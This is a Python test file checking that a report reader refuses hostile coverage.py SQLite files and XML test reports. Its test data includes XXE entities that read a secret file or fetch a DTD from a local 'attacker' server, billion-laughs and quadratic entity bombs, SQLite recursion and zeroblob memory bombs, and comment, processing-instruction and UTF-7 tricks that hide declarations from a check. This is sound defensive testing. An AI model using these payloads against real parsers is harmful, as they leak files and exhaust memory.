"""Hostile reports against every reader: what gets past the first defences (a DOCTYPE hidden
from the entity check, encodings the check does not read, SQLite schemas coverage.py never
writes) and what a rejection says. Each input is either read correctly or refused with a
FormatError naming the file and the reason, in bounded memory and time, with nothing fetched
from the network or the disk."""

from __future__ import annotations

import http.server
import sqlite3
import threading
from pathlib import Path
from types import SimpleNamespace

import pytest

from crossbridge_assets.formats import FormatError, read_report
from crossbridge_assets_tests.test_formats_json_detection import _in_child


def _refused(path: Path, *words: str) -> str:
    with pytest.raises(FormatError) as err:
        read_report(path)
    assert err.value.path == str(path) and str(path) in str(err.value)
    for word in words:
        assert word in err.value.reason, err.value.reason
    return err.value.reason


# ---------------------------------------------------------------------------- coverage.py data


def _coverage_data(path: Path, lines: dict[str, list[int]]) -> Path:
    """A data file written by coverage.py itself (line measurement, no contexts)."""
    from coverage import CoverageData

    data = CoverageData(basename=str(path))
    data.add_lines(lines)
    data.write()
    return path


def _alter(path: Path, script: str) -> Path:
    db = sqlite3.connect(path)
    db.executescript(script)
    db.commit()
    db.close()
    return path


def test_coverage_data_file_is_read(tmp_path):
    path = _coverage_data(tmp_path / ".coverage", {"/src/app.py": [1, 2, 5]})
    spec, _stream, [fc] = read_report(path)
    assert spec.name == "coveragepy-data" and fc.lines == {1: 1, 2: 1, 5: 1}


_ENDLESS = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n)"


@pytest.mark.parametrize(
    "script, reason",
    [
        # Each row selected from 'file' comes from a recursion that never ends: coverage.py's
        # SELECT ran until memory was gone.
        (f"ALTER TABLE file RENAME TO real_file; CREATE VIEW file AS {_ENDLESS} SELECT x AS id, 'p' || x AS path FROM n;",
         "it holds the view 'file'"),
        (f"DROP TABLE meta; CREATE VIEW meta AS {_ENDLESS} SELECT 'k' || x AS key, 'v' AS value FROM n;",
         "it holds the view 'meta'"),
        ("CREATE TRIGGER t AFTER INSERT ON meta BEGIN SELECT 1; END;", "it holds the trigger 't'"),
        ("DROP TABLE tracer; CREATE VIRTUAL TABLE tracer USING fts5(file_id, name);", "virtual table 'tracer'"),
        # A column computed on every read: 900 MB of zeros a row.
        ("ALTER TABLE line_bits RENAME TO old; CREATE TABLE line_bits (file_id integer, context_id integer,"
         " n integer, numbits blob GENERATED ALWAYS AS (zeroblob(n)) VIRTUAL);"
         " INSERT INTO line_bits (file_id, context_id, n) SELECT file_id, context_id, 900000000 FROM old; DROP TABLE old;",
         "its table 'line_bits' has a computed column"),
        # 4 MB of set bits: 32 million line numbers, each a Python int (MemoryError before).
        ("UPDATE line_bits SET numbits = CAST(replace(hex(zeroblob(4000000)), '00', 'FF') AS BLOB);",
         "no source file is longer than 1,048,576 lines"),
    ],
    ids=["endless-view-file", "endless-view-meta", "trigger", "virtual-table", "computed-column", "line-bits-bomb"],
)
def test_coverage_data_schema_coverage_never_writes_is_refused_in_bounded_memory(tmp_path, script, reason):
    path = _alter(_coverage_data(tmp_path / ".coverage", {"/src/app.py": [1, 2, 5]}), script)
    outcome = _in_child(str(path))
    assert outcome.get("error") == "FormatError" and outcome["path"] == str(path), outcome
    assert reason in outcome["reason"], outcome
    assert outcome["seconds"] < 10 and outcome["peak_kb"] < 200 * 1024, outcome


# ---------------------------------------------------------------------------- XML, every reader

# One small report a reader, as its tool writes it (trimmed): {decl} is the XML declaration,
# {dt} where a DOCTYPE goes, {ref} a place in an attribute (the test or file name), {txt} a
# place in text.
XML_SEEDS = {
    "junit": ("TEST-x.xml", '{decl}{dt}<testsuite name="s" tests="1"><testcase classname="c" name="t{ref}" time="1">'
              "<system-out>o{txt}</system-out></testcase></testsuite>"),
    "testng": ("testng-results.xml", '{decl}{dt}<testng-results><suite name="S"><test name="t"><class name="p.C">'
               '<test-method status="PASS" name="m{ref}" duration-ms="12" started-at="2023-01-01T00:00:00Z">'
               "<reporter-output><line>o{txt}</line></reporter-output></test-method></class></test></suite></testng-results>"),
    "nunit3": ("TestResult.xml", '{decl}{dt}<test-run id="2"><test-suite type="TestFixture" name="F" fullname="N.F">'
               '<test-case id="1" name="T{ref}" fullname="N.F.T" methodname="T" classname="N.F" result="Passed" '
               'duration="0.5"><output>o{txt}</output></test-case></test-suite></test-run>'),
    "nunit2": ("TestResult2.xml", '{decl}{dt}<test-results name="x.dll" total="1"><test-suite type="TestFixture" name="F">'
               '<results><test-case name="N.F.T{ref}" executed="True" result="Success" success="True" time="0.5">'
               "<reason><message>o{txt}</message></reason></test-case></results></test-suite></test-results>"),
    "xunit": ("xunit.xml", '{decl}{dt}<assemblies><assembly name="a.dll" time="1"><collection><test name="N.C.T{ref}" '
              'type="N.C" method="T" time="0.004" result="Pass"><output>o{txt}</output></test></collection>'
              "</assembly></assemblies>"),
    "trx": ("run.trx", '{decl}{dt}<TestRun xmlns="http://microsoft.com/schemas/VisualStudio/TeamTest/2010"><Results>'
            '<UnitTestResult testId="1" testName="T{ref}" outcome="Passed" duration="00:00:01.0"><Output>'
            "<StdOut>o{txt}</StdOut></Output></UnitTestResult></Results><TestDefinitions>"
            '<UnitTest id="1" name="T"><TestMethod className="N.C" name="T"/></UnitTest></TestDefinitions></TestRun>'),
    "robot": ("output.xml", '{decl}{dt}<robot generator="Robot 7.0"><suite id="s1" name="S" source="/s.robot">'
              '<test id="s1-t1" name="T{ref}" line="3"><status status="PASS" start="2024-01-01T00:00:00.000000" '
              'elapsed="1.5">o{txt}</status></test><status status="PASS" start="2024-01-01T00:00:00.000000" '
              'elapsed="2"/></suite></robot>'),
    "jacoco": ("jacoco.xml", '{decl}{dt}<report name="r"><sessioninfo id="s{txt}" start="1" dump="2"/><package name="p">'
               '<sourcefile name="A{ref}.java"><line nr="1" mi="0" ci="1" mb="0" cb="0"/>'
               '<counter type="LINE" missed="0" covered="1"/></sourcefile></package></report>'),
    "cobertura": ("cobertura-coverage.xml", '{decl}{dt}<coverage line-rate="1" branch-rate="1" version="1"><sources>'
                  '<source>/src{txt}</source></sources><packages><package name="p"><classes><class name="a" '
                  'filename="a{ref}.js"><lines><line number="1" hits="1"/></lines></class></classes></package>'
                  "</packages></coverage>"),
    "coveragepy-xml": ("coverage.xml", '{decl}{dt}<coverage version="7.3.0" line-rate="1" branch-rate="1">'
                       "<!-- Generated by coverage.py: https://coverage.readthedocs.io/en/7.3.0 --><sources>"
                       '<source>/src{txt}</source></sources><packages><package name="p"><classes><class name="a.py" '
                       'filename="a{ref}.py"><methods/><lines><line number="1" hits="1"/></lines></class></classes>'
                       "</package></packages></coverage>"),
}
UTF8 = '<?xml version="1.0" encoding="UTF-8"?>\n'


def _xml(seed: str, decl: str = UTF8, dt: str = "", ref: str = "", txt: str = "") -> str:
    return XML_SEEDS[seed][1].format(decl=decl, dt=dt, ref=ref, txt=txt)


def _identity(records) -> list[str]:
    return [getattr(r, "name", None) or r.path for r in records]


class _Recorder(http.server.BaseHTTPRequestHandler):
    """Serves a DTD that would define entities reading the secret, and notes every request."""

    requests: list[str] = []
    secret_url = ""

    def do_GET(self):  # noqa: N802 - http.server's naming
        type(self).requests.append(self.path)
        body = f'<!ENTITY leak SYSTEM "{self.secret_url}"><!ENTITY % inner SYSTEM "{self.secret_url}">'.encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture
def attacker(tmp_path):
    """A secret file and an HTTP server on 127.0.0.1 that records what it is asked for."""
    secret = tmp_path / "secret.txt"
    secret.write_text("S3CR3T-" + tmp_path.name)
    _Recorder.requests = []
    _Recorder.secret_url = secret.as_uri()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    try:
        yield SimpleNamespace(secret=secret.read_text(), file_url=secret.as_uri(),
                              http=f"http://127.0.0.1:{server.server_address[1]}", requests=_Recorder.requests)
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def _lol(n: int = 9) -> str:
    return '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, n + 1))


# Entity declarations hidden from a check that drops comments before processing instructions
# ('<?x <!-- ?>' is a PI to libxml2, then a declaration, then a comment), or behind a system
# literal that holds '<!--'.
_HIDERS = {
    "pi-then-comment": lambda decls: f"<!DOCTYPE r [<?x <!-- ?>{decls}<!-- -->]>",
    "literal-then-comment": lambda decls: f'<!DOCTYPE r SYSTEM "<!--" [{decls}<!-- -->]>',
    "literal-with-pi": lambda decls: f"<!DOCTYPE r [<!ATTLIST r a CDATA '<?'>{decls}<!ATTLIST r b CDATA '?>'>]>",
}


def _hidden_attacks(a) -> dict[str, tuple[str, str, str]]:
    """name -> (declarations, reference in an attribute, reference in text)."""
    return {
        "internal": ('<!ENTITY i "INTERNAL">', "&i;", "&i;"),
        "file-in-text": (f'<!ENTITY e SYSTEM "{a.file_url}">', "", "&e;"),
        "http-in-text": (f'<!ENTITY e SYSTEM "{a.http}/e.txt">', "", "&e;"),
        "parameter-http": (f'<!ENTITY % p SYSTEM "{a.http}/evil.dtd"> %p;', "", "&leak;"),
        "billion-laughs": (_lol(), "&lol9;", "&lol9;"),
        "quadratic": ('<!ENTITY a "' + "x" * 50_000 + '">', "&a;" * 2000, "&a;" * 2000),
    }


@pytest.mark.parametrize("hider", sorted(_HIDERS))
@pytest.mark.parametrize("seed", sorted(XML_SEEDS))
def test_entity_declarations_hidden_behind_comments_and_literals_are_refused(tmp_path, attacker, seed, hider):
    """Before, the check took the comment for one and passed the declarations; libxml2 then
    expanded an internal entity into a test's name, and kept '&e;' in its output."""
    for name, (decls, ref, txt) in _hidden_attacks(attacker).items():
        path = tmp_path / f"{name}-{XML_SEEDS[seed][0]}"
        path.write_text(_xml(seed, dt=_HIDERS[hider](decls), ref=ref, txt=txt))
        reason = _refused(path, "refused: the DOCTYPE declares the")
        assert attacker.secret not in reason
    assert attacker.requests == []


@pytest.mark.parametrize("seed", sorted(XML_SEEDS))
def test_an_encoding_python_does_not_know_is_refused(tmp_path, attacker, seed):
    """libxml2 knows iconv's aliases of UTF-7 ('CSUNICODE11UTF7'): a DOCTYPE written in it
    ('+ADw-' is '<') was invisible to the check, and the size limits were lifted too."""
    decls = f'<!ENTITY e SYSTEM "{attacker.file_url}">{_lol()}'
    doctype = f"<!DOCTYPE r [{decls}]>".encode("utf-7").replace(b"<", b"+ADw-").replace(b"!", b"+ACE-")
    text = _xml(seed, decl='<?xml version="1.0" encoding="CSUNICODE11UTF7"?>\n', txt="&e;&lol9;").encode()
    path = tmp_path / XML_SEEDS[seed][0]
    path.write_bytes(text.replace(b"\n<", b"\n" + doctype + b"<", 1))
    _refused(path, "refused: the declared encoding 'CSUNICODE11UTF7' is not one reports are read in")
    path.write_bytes(_xml(seed, decl='<?xml version="1.0" encoding="X-NOT-AN-ENCODING"?>\n').encode())
    _refused(path, "the declared encoding 'X-NOT-AN-ENCODING'")
    assert attacker.requests == []


@pytest.mark.parametrize("seed", sorted(XML_SEEDS))
def test_utf32_reports(tmp_path, seed):
    """libxml2 reads UTF-32 without a byte order mark: so do the checks, which saw no DOCTYPE
    in it before (and detection missed a big-endian one); with the mark libxml2 fails."""
    expected = _identity(read_report(_write(tmp_path / "utf8.xml", _xml(seed, ref="\u00e9").encode()))[2])
    decl = '<?xml version="1.0" encoding="UTF-32"?>\n'
    for codec in ("utf-32-le", "utf-32-be"):
        path = _write(tmp_path / f"{codec}-{XML_SEEDS[seed][0]}", _xml(seed, decl=decl, ref="\u00e9").encode(codec))
        assert _identity(read_report(path)[2]) == expected
        path.write_bytes(_xml(seed, decl=decl, dt=f"<!DOCTYPE r [{_lol()}]>", ref="&lol9;").encode(codec))
        _refused(path, "refused: the DOCTYPE declares the entity 'lol0'")
    path = _write(tmp_path / f"bom-{XML_SEEDS[seed][0]}", _xml(seed, decl=decl).encode("utf-32"))
    _refused(path, "UTF-32 with a byte order mark")
    path.write_bytes('{"a": 1}'.encode("utf-32"))
    _refused(path, "the file is UTF-32 text: only XML reports are read in UTF-32")


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def test_a_report_nested_deeper_than_256_levels_is_read(tmp_path):
    """The reader lifts libxml2's limits for a document without a DOCTYPE (up to 2048 levels);
    detection kept them, and refused such a report at 256."""
    suites = "".join(f'<testsuite name="level{i}">' for i in range(300))
    path = _write(tmp_path / "TEST-deep.xml", (UTF8 + suites + '<testcase classname="c" name="deepest"/>'
                                               + "</testsuite>" * 300).encode())
    [case] = read_report(path)[2]
    assert case.name == "deepest"
    path.write_bytes(_xml("junit", txt="<a>" * 100_000 + "</a>" * 100_000).encode())
    _refused(path, "malformed XML: elements nested deeper than 2048 levels")


@pytest.mark.parametrize("seed", sorted(XML_SEEDS))
def test_an_undefined_entity_is_named_as_the_reason(tmp_path, seed):
    """lxml says 'no element found' when libxml2 stopped inside the first element: the reason
    is libxml2's, in the parser's error log."""
    path = _write(tmp_path / XML_SEEDS[seed][0], _xml(seed, ref="&nope;").encode())
    _refused(path, "malformed XML: Entity 'nope' not defined (line 2, column")
